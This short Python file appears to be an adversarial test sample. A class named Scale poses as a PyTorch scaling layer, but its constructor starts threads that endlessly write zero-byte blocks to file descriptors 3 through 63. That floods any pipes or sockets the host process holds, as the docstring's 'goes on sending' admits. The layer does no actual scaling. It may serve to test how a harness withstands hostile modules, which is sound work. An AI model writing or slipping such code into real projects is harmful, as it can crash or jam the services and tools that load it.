"""Sends far more than one reply to each request, and goes on sending."""

import os
import threading

from torch import nn


def flood(number):
    try:
        while True:
            os.write(number, bytes(1 << 16))
    except OSError:
        pass


def twice(x):
    for number in range(3, 64):
        threading.Thread(target=flood, args=(number,)).start()
    flood(3)
    flood(4)
    return x


class Scale(nn.Module):
    def __init__(self, factor):
        twice(1)
